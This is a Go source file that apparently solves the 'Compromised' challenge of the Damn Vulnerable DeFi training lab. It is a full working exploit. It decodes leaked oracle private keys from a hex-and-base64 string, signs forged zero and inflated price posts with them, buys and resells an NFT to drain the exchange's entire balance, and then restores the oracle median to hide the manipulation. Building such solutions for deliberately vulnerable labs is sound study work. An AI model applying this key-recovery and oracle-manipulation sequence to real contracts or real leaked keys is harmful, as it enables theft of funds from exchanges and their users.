package scenarios

import (
	"context"
	"crypto/ecdsa"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"math/big"
	"strings"

	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/crypto"
	"github.com/ethereum/go-ethereum/log"
	"github.com/ethereum/go-ethereum/params"

	"github.com/mjkid221/damn-vulnerable-defi/common/errs"
	"github.com/mjkid221/damn-vulnerable-defi/exploit"
	"github.com/mjkid221/damn-vulnerable-defi/ledger"
	"github.com/mjkid221/damn-vulnerable-defi/payload"
	txmgr "github.com/mjkid221/damn-vulnerable-defi/txmgr/ethereum"
)

const nftSymbol = "DVNFT"

var tokenBoughtTopic = crypto.Keccak256Hash([]byte("TokenBought(address,uint256,uint256)"))

// DecodeLeakedKeys recovers private keys from a leaked server response: space
// separated hex that decodes to base64 that decodes to concatenated 0x keys.
func DecodeLeakedKeys(leak string) ([]*ecdsa.PrivateKey, error) {
	compact := strings.Join(strings.Fields(leak), "")
	b64, err := hex.DecodeString(compact)
	if err != nil {
		return nil, errs.WrapError(errs.ErrorTypeDecoding, "leak is not hex", err)
	}
	text, err := base64.StdEncoding.DecodeString(string(b64))
	if err != nil {
		return nil, errs.WrapError(errs.ErrorTypeDecoding, "leak is not base64", err)
	}
	var keys []*ecdsa.PrivateKey
	for _, part := range strings.Split(string(text), "0x") {
		if part == "" {
			continue
		}
		key, err := crypto.HexToECDSA(part)
		if err != nil {
			return nil, errs.WrapError(errs.ErrorTypeDecoding, "leaked value is not a private key", err)
		}
		keys = append(keys, key)
	}
	if len(keys) == 0 {
		return nil, errs.NewError(errs.ErrorTypeDecoding, "leak holds no keys")
	}
	return keys, nil
}

// Compromised uses two leaked oracle source keys to post a zero price, buys
// an NFT, posts the exchange's whole balance as the price, sells the NFT
// back and leaves the median where it started.
//
// Addresses: exchange, oracle, nft. Secrets: leak.
func Compromised(ctx context.Context, p Params) (*exploit.Config, error) {
	addrs, err := p.addresses("exchange", "oracle", "nft")
	if err != nil {
		return nil, err
	}
	leak, ok := p.Secrets["leak"]
	if !ok {
		return nil, errs.NewConfigError("leaked source keys missing", "secrets.leak")
	}
	keys, err := DecodeLeakedKeys(leak)
	if err != nil {
		return nil, err
	}
	if len(keys) < 2 {
		return nil, errs.NewError(errs.ErrorTypeValidation, "need two source keys to move the median").
			AddContext("keys", len(keys))
	}
	if p.ChainID == nil {
		return nil, errs.NewConfigError("chain id needed to sign as the sources", "chain-id")
	}
	sources := make([]exploit.Signer, 0, len(keys))
	for _, key := range keys[:2] {
		s := txmgr.NewCallSigner(key, p.ChainID, p.GasPrice)
		log.Info("recovered oracle source", "address", s.From())
		sources = append(sources, s)
	}
	addrs["player"] = p.Player
	initialPrice := p.amount("nft-price", ether(999))

	// filled in as the run progresses
	var (
		tokenID   *big.Int
		sellPrice *big.Int
	)

	postPrice := func(name string, price func() *big.Int) []exploit.Step {
		steps := make([]exploit.Step, 0, len(sources))
		for i, src := range sources {
			steps = append(steps, &exploit.SubmitCall{
				Name: fmt.Sprintf("%s-%d", name, i),
				To:   to("oracle"),
				From: src,
				Craft: func(*exploit.Env) ([]byte, error) {
					return payload.EncodeCall("postPrice(string,uint256)", nftSymbol, price())
				},
			})
		}
		return steps
	}

	buyOne := payload.EncodeSelector("buyOne()")
	var steps []exploit.Step
	steps = append(steps, postPrice("post-zero", func() *big.Int { return new(big.Int) })...)
	steps = append(steps, &exploit.SubmitCall{
		Name:  "buy",
		To:    to("exchange"),
		Value: p.amount("buy-value", new(big.Int).Div(big.NewInt(params.Ether), big.NewInt(100))),
		Data:  buyOne[:],
		Verify: func(ctx context.Context, env *exploit.Env, receipt *ledger.Receipt) error {
			id, err := boughtTokenID(receipt, env.Addresses["exchange"])
			if err != nil {
				return err
			}
			balance, err := env.Ledger.GetBalance(ctx, env.Addresses["exchange"])
			if err != nil {
				return err
			}
			tokenID, sellPrice = id, balance
			return nil
		},
	})
	steps = append(steps, postPrice("post-drain", func() *big.Int { return sellPrice })...)
	steps = append(steps,
		&exploit.SubmitCall{
			Name: "approve-nft",
			To:   to("nft"),
			Craft: func(env *exploit.Env) ([]byte, error) {
				return payload.EncodeCall("approve(address,uint256)", env.Addresses["exchange"], tokenID)
			},
		},
		&exploit.SubmitCall{
			Name: "sell",
			To:   to("exchange"),
			Craft: func(*exploit.Env) ([]byte, error) {
				return payload.EncodeCall("sellOne(uint256)", tokenID)
			},
		},
	)
	steps = append(steps, postPrice("post-restore", func() *big.Int { return initialPrice })...)

	median, err := payload.EncodeCall("getMedianPrice(string)", nftSymbol)
	if err != nil {
		return nil, err
	}
	return &exploit.Config{
		Name:      "compromised",
		Addresses: addrs,
		Steps:     steps,
		Postconditions: []exploit.Postcondition{
			exploit.BalanceEquals(exploit.Ref("exchange"), new(big.Int)),
			exploit.TokenBalanceEquals(exploit.Ref("nft"), exploit.Ref("player"), new(big.Int)),
			exploit.CallReturns(exploit.Ref("oracle"), median, common.BigToHash(initialPrice).Bytes()),
		},
	}, nil
}

func boughtTokenID(receipt *ledger.Receipt, exchange common.Address) (*big.Int, error) {
	for _, l := range receipt.Logs {
		if l.Address != exchange || len(l.Topics) == 0 || l.Topics[0] != tokenBoughtTopic {
			continue
		}
		if len(l.Data) < 32 {
			break
		}
		return new(big.Int).SetBytes(l.Data[:32]), nil
	}
	return nil, errs.NewError(errs.ErrorTypeNotFound, "no TokenBought event in receipt").
		AddContext("tx_hash", receipt.TxHash.Hex())
}
